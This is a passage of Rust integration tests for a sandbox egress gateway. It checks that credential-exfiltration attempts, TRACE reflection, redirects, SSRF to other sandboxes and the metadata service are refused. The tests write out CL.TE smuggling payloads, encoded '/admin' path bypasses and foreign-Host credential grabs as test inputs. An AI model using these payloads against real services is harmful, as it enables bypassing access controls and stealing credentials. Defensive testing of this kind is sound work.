            .args(["-o", "/dev/null", "-w", "%{http_code}", "--cacert", &ca_owned, "--resolve", &resolve2])
            .arg("https://api.example.test/v1/slow")
            .output()
            .unwrap()
    });
    wait_for("slow request in flight", Duration::from_secs(5), || {
        seen.lock().unwrap().iter().any(|r| r.path == "/v1/slow")
    });
    // SAFETY: kill(2) on the PID of the child we spawned and still own.
    assert_eq!(unsafe { libc::kill(gw.id() as i32, libc::SIGTERM) }, 0);
    let slow_out = slow.join().unwrap();
    assert_eq!(String::from_utf8_lossy(&slow_out.stdout), "200", "in-flight request finished during drain");
    let status = wait_exit(gw, &mut gw_none());
    assert!(status.success(), "gateway exit after SIGTERM: {status}");

    // Audit: every line is JSON, no secret anywhere, fingerprints and the security events.
    let text_all = std::fs::read_to_string(&audit).unwrap();
    assert!(!text_all.contains(SECRET), "secret in audit log");
    assert!(!text_all.contains("sandbox-placeholder"), "client Authorization value must be redacted");
    let lines = audit_lines(&audit);
    let ok = lines
        .iter()
        .find(|l| l["event"] == "http_request" && l["http"]["path"] == "/v1/chat")
        .expect("audit record of /v1/chat");
    assert_eq!(ok["policy"]["decision"], "allow");
    assert_eq!(ok["policy"]["matched_rule"], "api");
    assert_eq!(ok["sandbox"]["src_ip"], SANDBOX_IP);
    assert_eq!(ok["conn"]["original_dst_ip"], WORLD);
    assert_eq!(ok["conn"]["original_dst_port"], 443);
    assert_eq!(ok["tls"]["sni"], "api.example.test");
    assert_eq!(ok["credentials"]["injected"], json!(["authorization"]));
    assert!(ok["credentials"]["secret_ids"][0].as_str().unwrap().starts_with("fp-"));
    assert_eq!(ok["redacted_request_headers"]["authorization"], "<redacted:Bearer>");
    assert!(ok["http"]["resp_bytes"].as_u64().unwrap() > 0);
    let denied = lines.iter().find(|l| l["http"]["path"] == "/admin/users").expect("audit of the denied request");
    assert_eq!((denied["policy"]["decision"].as_str(), denied["http"]["status"].as_u64()), (Some("deny"), Some(403)));
    for (event, reason) in [
        ("security_event", "bootstrap_not_ready"),
        ("tls_handshake", "bootstrap_not_ready"),
        ("security_event", "g4_host_sni_mismatch"),
        ("security_event", "inject_plain_http_not_allowed"),
        ("security_event", "upstream_unreachable_or_unverified"),
        ("security_event", "no_policy_for_sandbox"),
    ] {
        assert!(has_event(&lines, event, reason), "no {event} {reason} in audit:\n{text_all}");
    }

    // `down` removes everything `up` added (the test's own mark rules stay).
    let o = node.exec("bash", &[script().to_str().unwrap(), "down"]);
    assert!(o.status.success(), "down: {}", text(&o));
    let after_down = String::from_utf8_lossy(&node.exec("iptables", &["-t", "mangle", "-S"]).stdout).into_owned();
    assert_eq!(after_down, before_up, "mangle table after down");
    assert_eq!(node.ip(&["rule", "show"]), rules_before, "ip rules after down");
    assert_eq!(node.ip(&["route", "show", "table", "100"]).trim(), "", "table 100 after down");
    let o = node.exec("bash", &[script().to_str().unwrap(), "status"]);
    assert_eq!(o.status.code(), Some(3), "status after down: {}", text(&o));
    drop(rt);
}

/// Attacks on the gateway (issue 11, "Gateway holes"): each check here failed on the code
/// before the fix.
#[test]
fn egress_gateway_holes() {
    if !require_root("egress_gateway_holes") {
        return;
    }
    let (rt, tmp) = scratch("holes");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);

    let gw_ca = tls::make_ca("CubeSandbox Egress test CA");
    let world_ca = tls::make_ca("world test CA");
    std::fs::write(dir.join("ca/cube-root-ca.crt"), &gw_ca.pem).unwrap();
    std::fs::write(dir.join("ca/cube-root-ca.key"), &gw_ca.key_pem).unwrap();
    std::fs::write(dir.join("world-ca.pem"), &world_ca.pem).unwrap();
    let ca_arg = dir.join("ca/cube-root-ca.crt").to_str().unwrap().to_string();
    let api_cert = || Some(tls::server_config(&world_ca, "api.example.test"));
    let seen = world_server(&rt, world, format!("{WORLD}:443").parse().unwrap(), api_cert());
    let seen_http = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    // A foreign address: plain HTTP, and HTTPS with a valid certificate for the allowed name
    // (a mis-issued or extra-CA certificate: TLS verification alone would accept it).
    let foreign_http = world_server(&rt, world, format!("{WORLD_BAD}:80").parse().unwrap(), None);
    let foreign_tls = world_server(&rt, world, format!("{WORLD_BAD}:443").parse().unwrap(), api_cert());
    let _dns = world_dns(world, &[("api.example.test", WORLD)]);

    let _down = NetDown(node);
    let o = node.exec("bash", &[script().to_str().unwrap(), "up"]);
    assert!(o.status.success(), "up: {}", text(&o));
    let audit = dir.join("log/access.jsonl");
    let handoff = dir.join("handoff.sock");
    let gw_cmd = node
        .command(egress_bin().to_str().unwrap())
        .env("CUBE_EGRESS_DNS_SERVERS", format!("{WORLD}:53"))
        .stdin(std::process::Stdio::null())
        .args([
            "--sandbox-cidr",
            "192.168.0.0/18",
            "--ca-dir",
            dir.join("ca").to_str().unwrap(),
            "--upstream-extra-ca",
            dir.join("world-ca.pem").to_str().unwrap(),
            "--audit-file",
            audit.to_str().unwrap(),
            "--bootstrap-url",
            "",
            // A budget larger than the attack: refusals below come from policy, not the limit.
            "--mint-burst",
            "500",
            "--handoff-socket",
            handoff.to_str().unwrap(),
        ])
        .spawn()
        .unwrap();
    let mut gw = ChildGuard::from_child(gw_cmd);
    let admin = |args: &[&str]| admin_curl(node, args);
    let base = "http://127.0.0.1:9091/admin/v1";
    wait_for("admin health", Duration::from_secs(10), || admin(&[&format!("{base}/health")]).0 == 200);
    let pol = json!({"policy_id": "holes", "rules": [
        {"id": "web", "match": {"host": "api.example.test"},
         "action": {"allow": true, "inject_plain_http": true, "inject": [{"header": "X-Api-Key", "secret": SECRET}]}}
    ]});
    let (code, body) = admin(&["-X", "PUT", "--data", &pol.to_string(), &format!("{base}/policies/{SANDBOX_IP}")]);
    assert_eq!(code, 200, "{body}");

    // 1. 100 random SNIs against a host-only allow rule: no certificate for any of them.
    let mut seed = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() as u64 | 1;
    let mut args: Vec<String> = vec!["-sS".into(), "--max-time".into(), "5".into(), "--cacert".into(), ca_arg.clone()];
    args.extend(["-w".into(), "%{http_code}\\n".into()]);
    for _ in 0..100 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let name = format!("r{:012x}.example.net", seed & 0xffff_ffff_ffff);
        args.extend(["--resolve".into(), format!("{name}:443:{WORLD}"), "-o".into(), "/dev/null".into()]);
        args.push(format!("https://{name}/"));
    }
    let o = sb.exec("curl", &args.iter().map(String::as_str).collect::<Vec<_>>());
    let codes = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(codes.lines().count(), 100, "{}", text(&o));
    let handshakes = codes.lines().filter(|c| *c != "000").count();
    assert_eq!(handshakes, 0, "random SNIs completed a TLS handshake: {}", text(&o));
    let (_, metrics) = admin(&["http://127.0.0.1:9091/metrics"]);
    assert!(metrics.contains("cube_egress_cert_mints_total 0"), "{metrics}");
    // The rule's own name still works, with its credential.
    let resolve = format!("api.example.test:443:{WORLD}");
    let (code, _, o) = curl(&sb, &["--cacert", &ca_arg, "--resolve", &resolve, "https://api.example.test/v1/ok"]);
    assert_eq!(code, 200, "{}", text(&o));
    {
        let s = seen.lock().unwrap();
        let r = s.iter().find(|r| r.path == "/v1/ok").expect("world saw /v1/ok");
        assert_eq!(r.header("x-api-key"), vec![SECRET]);
    }

    // 2. Plain HTTP: an allowed Host to a foreign address is refused; the credential never goes
    //    there. The same Host to the name's address is served with the credential.
    let (code, body, o) = curl(&sb, &["-H", "Host: api.example.test", &format!("http://{WORLD_BAD}/steal")]);
    assert_eq!(code, 403, "{}", text(&o));
    assert!(body.contains("destination_not_resolved"), "{body}");
    assert!(foreign_http.lock().unwrap().is_empty(), "request reached the foreign address");
    let resolve80 = format!("api.example.test:80:{WORLD}");
    let (code, _, o) = curl(&sb, &["--resolve", &resolve80, "http://api.example.test/plain-ok"]);
    assert_eq!(code, 200, "{}", text(&o));
    {
        let s = seen_http.lock().unwrap();
        let r = s.iter().find(|r| r.path == "/plain-ok").expect("world saw /plain-ok");
        assert_eq!(r.header("x-api-key"), vec![SECRET]);
    }
    // HTTPS to a foreign address that holds a valid certificate for the name: served (TLS
    // binds it), but the credential is not injected there.
    let resolve_foreign = format!("api.example.test:443:{WORLD_BAD}");
    let (code, _, o) =
        curl(&sb, &["--cacert", &ca_arg, "--resolve", &resolve_foreign, "https://api.example.test/v1/foreign"]);
    assert_eq!(code, 200, "{}", text(&o));
    {
        let s = foreign_tls.lock().unwrap();
        let r = s.iter().find(|r| r.path == "/v1/foreign").expect("foreign server saw /v1/foreign");
        assert!(r.header("x-api-key").is_empty(), "credential sent to a foreign address: {r:?}");
    }
    // Addresses the agent learned for this sandbox bind the name too (admin hook), until removed.
    let learned = json!({"names": {"api.example.test": [WORLD_BAD]}, "ttl_secs": 60});
    let url_learned = format!("{base}/learned/{SANDBOX_IP}");
    let (code, body) = admin(&["-X", "PUT", "--data", &learned.to_string(), &url_learned]);
    assert_eq!(code, 200, "{body}");
    let (code, body) = admin(&[&url_learned]);
    assert_eq!(code, 200);
    assert!(body.contains(WORLD_BAD), "{body}");
    let (code, _, o) = curl(&sb, &["-H", "Host: api.example.test", &format!("http://{WORLD_BAD}/learned")]);
    assert_eq!(code, 200, "{}", text(&o));
    assert!(foreign_http.lock().unwrap().iter().any(|r| r.path == "/learned"));
    let bad = json!({"names": {"api.example.test": ["10.0.0.256"]}});
    let (code, body) = admin(&["-X", "PUT", "--data", &bad.to_string(), &url_learned]);
    assert_eq!(code, 400);
    assert!(body.contains("names.api.example.test[0]"), "{body}");
    assert_eq!(admin(&["-X", "DELETE", &url_learned]).0, 200);
    let (code, _, _) = curl(&sb, &["-H", "Host: api.example.test", &format!("http://{WORLD_BAD}/forgotten")]);
    assert_eq!(code, 403);

    // 3a. Tokens in URLs never reach the audit log.
    let (code, _, o) = curl(
        &sb,
        &[
            "--cacert",
            &ca_arg,
            "--resolve",
            &resolve,
            "https://api.example.test/v1/q?access_token=QUERY-SECRET-42&page=1",
        ],
    );
    assert_eq!(code, 200, "{}", text(&o));
    // 3b. The admin API is not reachable from a sandbox (loopback listener).
    let (code, _, _) = curl(&sb, &["--max-time", "3", &format!("http://{GATEWAY}:9091/admin/v1/health")]);
    assert_eq!(code, 0, "admin API answered a sandbox");
    // 3c. The handoff socket: mode 0600, and a peer of another uid gets nothing even when the
    //     file mode is opened up.
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&handoff).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "handoff socket mode {mode:o}");
        std::fs::set_permissions(&handoff, std::fs::Permissions::from_mode(0o666)).unwrap();
        let o = std::process::Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c"])
            .arg(
                "import socket,sys\n\
                 s=socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(sys.argv[1])\n\
                 try:\n  m,a,_,_=s.recvmsg(64, socket.CMSG_SPACE(12))\n\
                 except Exception:\n  m,a=b'',[]\n\
                 print(len(m), sum(len(d) for _,_,d in a)//4)",
            )
            .arg(&handoff)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "0 0", "another uid received the listeners");
    }
    assert!(gw.child().try_wait().unwrap().is_none(), "gateway stopped after a refused handoff");
    let (code, _, o) = curl(&sb, &["--cacert", &ca_arg, "--resolve", &resolve, "https://api.example.test/v1/still"]);
    assert_eq!(code, 200, "still serving after the refused handoff: {}", text(&o));

    // SIGTERM, then the audit file.
    // SAFETY: kill(2) on the PID of the child we spawned and still own.
    assert_eq!(unsafe { libc::kill(gw.id() as i32, libc::SIGTERM) }, 0);
    let status = wait_exit(&mut gw, &mut gw_none());
    assert!(status.success(), "gateway exit after SIGTERM: {status}");
    let text_all = std::fs::read_to_string(&audit).unwrap();
    assert!(!text_all.contains(SECRET), "secret in audit log");
    assert!(!text_all.contains("QUERY-SECRET-42"), "query token in audit log");
    let lines = audit_lines(&audit);
    assert!(
        lines.iter().any(|l| l["http"]["path"] == "/v1/q?access_token=<redacted>&page=<redacted>"),
        "redacted target missing:\n{text_all}"
    );
    let refused_snis =
        lines.iter().filter(|l| l["event"] == "tls_handshake" && l["security"]["reason"] == "sni_not_allowed").count();
    assert_eq!(refused_snis, 100, "one tls_handshake record per refused SNI");
    let steal = lines
        .iter()
        .find(|l| l["event"] == "security_event" && l["http"]["path"] == "/steal")
        .expect("security event of /steal");
    assert_eq!(steal["security"]["reason"], "destination_not_resolved");
    assert_eq!(steal["conn"]["original_dst_ip"], WORLD_BAD);
    for (event, reason) in
        [("security_event", "inject_destination_not_resolved"), ("security_event", "handoff_peer_refused")]
    {
        assert!(has_event(&lines, event, reason), "no {event} {reason} in audit:\n{text_all}");
    }
    drop(rt);
}

/// Attack (E20): a gateway that cannot write its audit log forwards nothing. The audit file is
/// `/dev/full` (every `write(2)` fails with ENOSPC): an allowed request gets 503 and never
/// reaches the world, a denied one still gets its 403, and the refusals are counted.
#[test]
fn egress_gateway_fails_closed_without_audit() {
    if !require_root("egress_gateway_fails_closed_without_audit") {
        return;
    }
    let (rt, tmp) = scratch("noaudit");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let _gw = start_gateway(node, node.command(egress_bin().to_str().unwrap()), dir, "/dev/full", &[]);
    let admin = |args: &[&str]| admin_curl(node, args);
    let pol = json!({"policy_id": "noaudit", "rules": [
        {"id": "plain", "match": {"host": WORLD, "scheme": "http", "path": "/v1/*"}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);

    let (code, body, o) = curl(&sb, &[&format!("http://{WORLD}/v1/exfil")]);
    assert_eq!(code, 503, "{}", text(&o));
    assert!(body.contains("audit log unavailable"), "{body}");
    let (code, _, o) = curl(&sb, &[&format!("http://{WORLD}/other")]);
    assert_eq!(code, 403, "a request outside the rules is still denied: {}", text(&o));
    assert!(seen.lock().unwrap().is_empty(), "a request reached the world without its audit record");
    let (_, metrics) = admin(&["http://127.0.0.1:9091/metrics"]);
    assert!(metrics.contains("cube_egress_audit_refused_total{reason=\"write_failed\"} 2"), "{metrics}");
}

/// Attack (R82): a sandbox reads back its own injected credential with `TRACE`, whose
/// response reflects the request's fields (RFC 9110 §9.3.8: a client must not send
/// credentials in one). The gateway injected into any method the rule allows; now a `TRACE`
/// (any case) is forwarded without the credential and logged as a security event, while
/// other methods still get it.
#[test]
fn egress_gateway_never_injects_into_trace() {
    if !require_root("egress_gateway_never_injects_into_trace") {
        return;
    }
    let (rt, tmp) = scratch("trace");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let audit = dir.join("log/access.jsonl");
    let _gw = start_gateway(node, node.command(egress_bin().to_str().unwrap()), dir, audit.to_str().unwrap(), &[]);
    let pol = json!({"policy_id": "trace", "rules": [
        {"id": "plain", "match": {"host": WORLD, "scheme": "http"},
         "action": {"allow": true, "inject": [{"header": "X-Api-Key", "secret": SECRET}], "inject_plain_http": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);

    let (code, _, o) = curl(&sb, &[&format!("http://{WORLD}/v1/get")]);
    assert_eq!(code, 200, "{}", text(&o));
    for m in ["TRACE", "trace"] {
        let (code, _, o) = curl(&sb, &["-X", m, "-H", "X-Api-Key: mine", &format!("http://{WORLD}/v1/{m}")]);
        assert_eq!(code, 200, "{}", text(&o));
    }
    let seen = seen.lock().unwrap().clone();
    let got = |m: &str| seen.iter().find(|r| r.method == m).unwrap_or_else(|| panic!("{m} not forwarded: {seen:?}"));
    assert_eq!(got("GET").header("x-api-key"), vec![SECRET], "control: a GET carries the credential");
    for m in ["TRACE", "trace"] {
        assert!(got(m).header("x-api-key").is_empty(), "{m} carried a credential: {:?}", got(m));
    }
    let lines = audit_when(&audit, |l| l.iter().filter(|r| r["event"] == "http_request").count() >= 3);
    assert!(has_event(&lines, "security_event", "inject_trace_method"), "{lines:?}");
    drop(rt);
}

/// Held (candidate attack, round 6): an allowed host answers a credentialed request with a
/// redirect to another host; the gateway hands the 302 to the sandbox as it is and never
/// follows it, so neither the request nor the credential reaches the other host.
#[test]
fn egress_gateway_never_follows_a_redirect() {
    if !require_root("egress_gateway_never_follows_a_redirect") {
        return;
    }
    let (rt, tmp) = scratch("redirect");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let foreign = world_server(&rt, world, format!("{WORLD_BAD}:80").parse().unwrap(), None);
    let audit = dir.join("log/access.jsonl");
    let _gw = start_gateway(node, node.command(egress_bin().to_str().unwrap()), dir, audit.to_str().unwrap(), &[]);
    let pol = json!({"policy_id": "redirect", "rules": [
        {"id": "plain", "match": {"host": WORLD, "scheme": "http"},
         "action": {"allow": true, "inject": [{"header": "X-Api-Key", "secret": SECRET}], "inject_plain_http": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    let (code, _, o) = curl(&sb, &["-D", "-", &format!("http://{WORLD}/v1/redirect/{WORLD_BAD}")]);
    assert_eq!(code, 302, "{}", text(&o));
    assert!(String::from_utf8_lossy(&o.stdout).contains(&format!("http://{WORLD_BAD}/v1/stolen")), "{}", text(&o));
    assert_eq!(seen.lock().unwrap()[0].header("x-api-key"), vec![SECRET], "control: the allowed host got it");
    assert!(foreign.lock().unwrap().is_empty(), "the redirect was followed: {:?}", foreign.lock().unwrap());
    drop(rt);
}

/// Sends `raw` from the sandbox namespace to `to` over plain TCP, half-closes, and returns
/// everything the gateway answered until it closed (or 10 s passed).
fn raw_http(ns: &TestNetns, to: &str, raw: &[u8]) -> String {
    use std::io::{Read, Write};
    let to: SocketAddr = to.parse().unwrap();
    let raw = raw.to_vec();
    ns.run(move || {
        let mut s = std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5)).expect("connect");
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s.write_all(&raw).expect("send");
        s.shutdown(std::net::Shutdown::Write).unwrap();
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        String::from_utf8_lossy(&out).into_owned()
    })
}

/// Attack (R14): requests a sandbox writes by hand to confuse the gateway about which site a
/// request (and the credential injected into it) is for. The policy allows `api.example.test`
/// with a credential over plain HTTP and denies its `/admin*` paths.
/// 1. Two `Host` lines, the allowed name first and a foreign one second: RFC 9112 §3.2 makes
///    such a request invalid (400); forwarded, a server or CDN that keeps the last `Host`
///    would route the injected credential to the foreign site.
/// 2. Content-Length and Transfer-Encoding together (CL.TE smuggling): a denied `/admin`
///    request hidden in the body of an allowed one must never reach the world.
/// 3. An absolute-form target naming a foreign host beside the allowed `Host`.
/// 4. Paths that resolve to the denied `/admin…` on the server but are not written so (R19).
/// 5. HTTPS whose SNI names a denied host and whose Host an allowed one (R20).
#[test]
fn egress_gateway_request_confusion() {
    if !require_root("egress_gateway_request_confusion") {
        return;
    }
    let (rt, tmp) = scratch("confusion");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let world_ca = tls::make_ca("world test CA");
    std::fs::write(dir.join("world-ca.pem"), &world_ca.pem).unwrap();
    let names = ["secret.example.test", "other.example.test"];
    let seen_tls = world_server(
        &rt,
        world,
        format!("{WORLD}:443").parse().unwrap(),
        Some(tls::server_config_names(&world_ca, &names)),
    );
    let ca_arg = dir.join("ca/cube-root-ca.crt").to_str().unwrap().to_string();
    let _dns = world_dns(world, &[("api.example.test", WORLD), ("evil.example.test", WORLD)]);
    let audit = dir.join("log/access.jsonl");
    let mut cmd = node.command(egress_bin().to_str().unwrap());
    cmd.env("CUBE_EGRESS_DNS_SERVERS", format!("{WORLD}:53"));
    let world_ca_arg = dir.join("world-ca.pem").to_str().unwrap().to_string();
    let _gw = start_gateway(node, cmd, dir, audit.to_str().unwrap(), &["--upstream-extra-ca", &world_ca_arg]);
    let pol = json!({"policy_id": "confusion", "rules": [
        {"id": "no-admin", "match": {"host": "api.example.test", "path": "/admin*"}, "action": {"allow": false}},
        {"id": "web", "match": {"host": "api.example.test"},
         "action": {"allow": true, "inject_plain_http": true, "inject": [{"header": "X-Api-Key", "secret": SECRET}]}},
        {"id": "no-secret", "match": {"host": "secret.example.test"}, "action": {"allow": false}},
        {"id": "tls-any", "match": {"host": "*.example.test", "scheme": "https"}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    let to = format!("{WORLD}:80");

    // The allowed request itself is served with its credential (the rig works).
    let ok = raw_http(&sb, &to, b"GET /ok HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n");
    assert!(ok.starts_with("HTTP/1.1 200"), "{ok}");
    {
        let s = seen.lock().unwrap();
        let r = s.iter().find(|r| r.path == "/ok").expect("world saw /ok");
        assert_eq!(r.header("x-api-key"), vec![SECRET]);
        assert_eq!(r.header("host"), vec!["api.example.test"]);
    }

    // 1. Two Host lines.
    let dup = raw_http(
        &sb,
        &to,
        b"GET /dup HTTP/1.1\r\nHost: api.example.test\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n",
    );
    assert!(dup.starts_with("HTTP/1.1 400"), "two Host lines answered: {dup}");

    // 2. CL.TE: with Content-Length the body is the hidden `/admin` request; with chunked it
    //    is empty and `/admin` is a second request, which the policy must see.
    let hidden = b"GET /admin/secret HTTP/1.1\r\nHost: api.example.test\r\n\r\n";
    let mut smuggle = format!(
        "POST /smuggle HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        5 + hidden.len()
    )
    .into_bytes();
    smuggle.extend_from_slice(hidden);
    let answer = raw_http(&sb, &to, &smuggle);

    // 3. Absolute-form target naming another host.
    let abs = raw_http(
        &sb,
        &to,
        b"GET http://evil.example.test/abs HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n",
    );

    // 4. Paths the server resolves to the denied `/admin…` but that do not start with it as
    //    written: dot segments, a percent-encoded letter, a doubled slash, an encoded slash.
    let mut bypass = Vec::new();
    for p in ["/public/../admin/a", "/%61dmin/b", "//admin/c", "/./admin/d", "/x%2F..%2Fadmin/e"] {
        let req = format!("GET {p} HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n");
        let a = raw_http(&sb, &to, req.as_bytes());
        if !a.starts_with("HTTP/1.1 403") {
            bypass.push(format!("{p}: {}", a.lines().next().unwrap_or("")));
        }
    }
    assert!(bypass.is_empty(), "denied path reached through: {bypass:?}");
    // A path no server can resolve is refused, a clean one served.
    let bad = raw_http(&sb, &to, b"GET /../etc HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n");
    assert!(bad.starts_with("HTTP/1.1 400"), "{bad}");
    let ok = raw_http(&sb, &to, b"GET /pub/./x HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n");
    assert!(ok.starts_with("HTTP/1.1 200"), "{ok}");

    // 5. HTTPS to the denied host's server (SNI) with an allowed Host: the connection reaches
    //    the SNI's server whatever the Host says, so the deny rule applies (R20).
    let other = format!("other.example.test:443:{WORLD}");
    let (code, _, o) = curl(&sb, &["--cacert", &ca_arg, "--resolve", &other, "https://other.example.test/ok-tls"]);
    assert_eq!(code, 200, "control: {}", text(&o));
    let secret = format!("secret.example.test:443:{WORLD}");
    let (code, body, o) = curl(
        &sb,
        &[
            "--cacert",
            &ca_arg,
            "--resolve",
            &secret,
            "-H",
            "Host: other.example.test",
            "https://secret.example.test/fronted",
        ],
    );
    assert_eq!(code, 403, "fronted past the deny rule: {}", text(&o));
    assert!(body.contains("rule_deny_sni"), "{body}");
    let tls_paths: Vec<String> = seen_tls.lock().unwrap().iter().map(|r| r.path.clone()).collect();
    assert_eq!(tls_paths, ["/ok-tls"], "the denied host's server saw a request");

    let s = seen.lock().unwrap().clone();
    let listing: Vec<String> = s.iter().map(|r| format!("{} {:?}", r.path, r.header("host"))).collect();
    for r in &s {
        assert_eq!(r.header("host"), vec!["api.example.test"], "world saw another Host: {listing:?}");
        assert!(!r.path.contains("admin"), "a denied path reached the world: {listing:?}\n{answer}");
    }
    assert!(!s.iter().any(|r| r.path == "/dup" || r.path == "/abs"), "an ambiguous request was forwarded: {listing:?}");
    // The smuggling request: one answer, then the gateway closes (RFC 9112 §6.1), and the world
    // got it re-framed (chunked only), so no server downstream can split it either.
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "the hidden request was answered: {answer}");
    let r = s.iter().find(|r| r.path == "/smuggle").expect("world saw /smuggle");
    assert!(r.header("content-length").is_empty(), "{r:?}");
    assert!(abs.starts_with("HTTP/1.1 400"), "{abs}");
    let refused_of = |lines: &[Value]| {
        lines.iter().filter(|l| l["event"] == "http_request" && l["security"]["reason"] == "ambiguous_host").count()
    };
    let lines =
        audit_when(&audit, |lines| refused_of(lines) >= 2 && has_event(lines, "security_event", "ambiguous_host"));
    let refused: Vec<&Value> =
        lines.iter().filter(|l| l["event"] == "http_request" && l["security"]["reason"] == "ambiguous_host").collect();
    assert_eq!(refused.len(), 2, "one record per refused request: {lines:?}");
    assert!(refused.iter().all(|l| l["http"]["status"] == 400), "{refused:?}");
    assert!(has_event(&lines, "security_event", "ambiguous_host"));
    drop(rt);
}

/// Attack (R17): a rule (or a learned name) that names another sandbox's address. The victim
/// is a namespace behind its own link in the node at 192.168.0.4 (the sandbox CIDR), serving
/// plain HTTP; the sandbox's policy allows that address literally, over HTTP and HTTPS. The
/// gateway's upstream leg is an ordinary node socket, so without a check it would dial the
/// victim from the node (as the datapath's `from_envoy` delivers anything the host sends to a
/// sandbox address). Property: the victim receives nothing; both refusals are audited.
#[test]
fn egress_gateway_never_dials_a_sandbox() {
    if !require_root("egress_gateway_never_dials_a_sandbox") {
        return;
    }
    const VICTIM: &str = "192.168.0.4";
    let (rt, tmp) = scratch("sandbox-dst");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    // The victim: its own namespace and link; the node routes its address there, the sandbox
    // routes it through the gateway (so the marks send it to CubeEgress).
    let victim = TestNetns::new("vic");
    node.ip(&["link", "add", "vic0", "type", "veth", "peer", "name", "eth0", "netns", victim.name()]);
    node.ip(&["link", "set", "vic0", "up"]);
    node.ip(&["route", "add", &format!("{VICTIM}/32"), "dev", "vic0"]);
    victim.ip(&["addr", "add", &format!("{VICTIM}/18"), "dev", "eth0"]);
    victim.ip(&["link", "set", "eth0", "up"]);
    victim.ip(&["route", "add", "default", "dev", "eth0"]);
    sb.ip(&["route", "add", &format!("{VICTIM}/32"), "via", GATEWAY]);
    let seen = world_server(&rt, &victim, format!("{VICTIM}:80").parse().unwrap(), None);
    let _world = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    // Control: the node itself reaches the victim (the path the gateway would take).
    let o = node.exec(
        "curl",
        &["-sS", "--max-time", "5", "-o", "/dev/null", "-w", "%{http_code}", &format!("http://{VICTIM}/control")],
    );
    assert_eq!(String::from_utf8_lossy(&o.stdout), "200", "{}", text(&o));
    assert_eq!(seen.lock().unwrap().len(), 1);

    gateway_ca(dir);
    let ca_arg = dir.join("ca/cube-root-ca.crt").to_str().unwrap().to_string();
    let audit = dir.join("log/access.jsonl");
    let _gw = start_gateway(node, node.command(egress_bin().to_str().unwrap()), dir, audit.to_str().unwrap(), &[]);
    let pol = json!({"policy_id": "sandbox-dst", "rules": [
        {"id": "victim", "match": {"host": VICTIM}, "action": {"allow": true}},
        {"id": "world", "match": {"host": WORLD, "scheme": "http"}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);

    // Control: the same kind of rule to a world address is served.
    let (code, _, o) = curl(&sb, &[&format!("http://{WORLD}/ok")]);
    assert_eq!(code, 200, "{}", text(&o));
    let (code, body, o) = curl(&sb, &[&format!("http://{VICTIM}/steal")]);
    assert_eq!(code, 403, "{}", text(&o));
    assert!(body.contains("destination_is_sandbox"), "{body}");
    let (code, _, o) = curl(&sb, &["--cacert", &ca_arg, &format!("https://{VICTIM}/steal-tls")]);
    assert_eq!(code, 0, "TLS to a sandbox address completed: {}", text(&o));
    let paths: Vec<String> = seen.lock().unwrap().iter().map(|r| r.path.clone()).collect();
    assert_eq!(paths, ["/control"], "the gateway dialled the victim");
    audit_when(&audit, |lines| {
        has_event(lines, "security_event", "destination_is_sandbox")
            && lines
                .iter()
                .any(|l| l["event"] == "tls_handshake" && l["security"]["reason"] == "destination_is_sandbox")
    });
    drop(rt);
}

/// Attack (R30): a sandbox whose gateway policy allows everything (an empty `match`, and an
/// IPv4-literal rule naming the address) asks the gateway for Alibaba Cloud's metadata
/// service, 100.100.100.200 (a test host in the world namespace, routed from the node).
/// Property: with its default `always_denied_cidrs` the gateway never dials it (HTTP 403
/// `destination_always_denied`, HTTPS refused before minting, audited); a gateway started with
/// the list emptied serves the same request, so the list is what refused it.
#[test]
fn egress_gateway_never_dials_an_always_denied_address() {
    if !require_root("egress_gateway_never_dials_an_always_denied_address") {
        return;
    }
